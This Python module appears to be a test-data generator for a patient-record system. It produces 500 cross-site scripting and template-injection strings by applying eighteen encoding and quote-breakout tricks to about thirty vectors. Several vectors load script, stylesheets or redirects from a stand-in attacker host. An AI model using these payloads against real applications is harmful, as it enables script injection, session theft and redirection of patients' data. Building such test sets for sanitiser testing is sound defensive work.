"""Five hundred values that would like to be markup: what may stand in a patient's record, by malice or accident."""

from __future__ import annotations

from collections.abc import Callable, Iterator, Mapping
from html import escape
from itertools import islice
from urllib.parse import quote

EVIL = "https://evil.example/x"
VECTORS = (
    "<script>alert(1)</script>",
    f'<script src="{EVIL}.js"></script>',
    "<img src=x onerror=alert(1)>",
    f'<img src="{EVIL}.png">',
    "<svg onload=alert(1)>",
    '<svg><script href="data:,alert(1)"/></svg>',
    f'<iframe src="{EVIL}"></iframe>',
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    "<body onload=alert(1)>",
    f'<style>@import "{EVIL}.css"; body {{ display: none }}</style>',
    f'<link rel="stylesheet" href="{EVIL}.css">',
    f'<meta http-equiv="refresh" content="0;url={EVIL}">',
    f'<base href="{EVIL}/">',
    f'<form action="{EVIL}"><input name=q autofocus onfocus=alert(1)></form>',
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    f'<video autoplay onloadstart=alert(1)><source src="{EVIL}.mp4"></video>',
    f'<object data="{EVIL}"></object><embed src="{EVIL}">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<a href=javascript:alert(1) autofocus onfocus=alert(1)>x</a>",
    f'<table background="{EVIL}.gif"><tr><td style="background:url({EVIL}.gif)">x</td></tr></table>',
    "</td></tr></table></div></body></html><h1>x</h1>",
    "</p></h2></a></li></ul><plaintext>",
    "</title></textarea></xmp></template><b>x</b>",
    "<!--[if mso]><p>x</p><![endif]--><!-- <p>",
    "<![CDATA[<b>x</b>]]><?xml-stylesheet href='x'?>",
    "</mj-text><mj-raw><b>x</b></mj-raw><mj-text>",
    "{{ 7*7 }}{% if true %}{{ patient.email }}{% endif %}__cc_h0____cc_b0____cc_e0__",
    "onmouseover=alert(1) style=position:fixed;inset:0 ",
    "*|FNAME|* %%first%% ${7*7} #{7*7} [[x]] <%= 7*7 %>",
)
DISGUISES: Mapping[str, Callable[[str], str]] = {
    "as it is": str,
    "after a double quote": lambda text: f'">{text}',
    "after a single quote": lambda text: f"'>{text}",
    "after a grave accent": lambda text: f"`>{text}",
    "after a comment's end": lambda text: f"-->{text}<!--",
    "after a title's end": lambda text: f"</title>{text}",
    "after a sheet's end": lambda text: f"</style></script>{text}",
    "in capitals": str.upper,
    "as references": escape,
    "as references of references": lambda text: escape(escape(text)),
    "in per cent": quote,
    "unclosed": lambda text: text.rstrip(">"),
    "doubled": lambda text: text.replace("<", "<<").replace(">", ">>"),
    "with a NUL": lambda text: text.replace("<", "<\0", 1).replace("script", "scr\0ipt"),
    "over lines": lambda text: text.replace(" ", "\r\n\t").replace("<", "\n<"),
    "full width": lambda text: text.replace("<", "＜").replace(">", "＞") + text,
    "escaped": lambda text: text.replace("<", "\\u003c") + "\\" + text,
    "among other letters": lambda text: f"李{text}\u202eשלום\u2066é",
}


def payloads(count: int = 500) -> list[str]:
    """The first so many, each once, the disguises changing fastest."""
    return list(islice(dict.fromkeys(_all()), count))


def _all() -> Iterator[str]:
    for vector in VECTORS:
        for disguise in DISGUISES.values():
            yield disguise(vector)
